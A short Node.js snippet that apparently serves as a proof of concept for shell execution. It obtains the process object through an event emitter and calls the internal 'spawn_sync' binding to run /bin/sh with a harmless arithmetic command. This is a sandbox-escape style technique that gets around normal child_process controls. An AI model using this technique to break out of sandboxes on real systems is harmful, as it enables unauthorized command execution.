import {EventEmitter,once} from 'events';
const e=new EventEmitter(); setTimeout(()=>e.emit('x',process),1);
const [p]=await once(e,'x'); console.log(p.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','expr 40 + 1001'],envPairs:[],stdio:[{type:'pipe',readable:true},{type:'pipe',writable:true},{type:'pipe',writable:true}]}).output[1].toString());
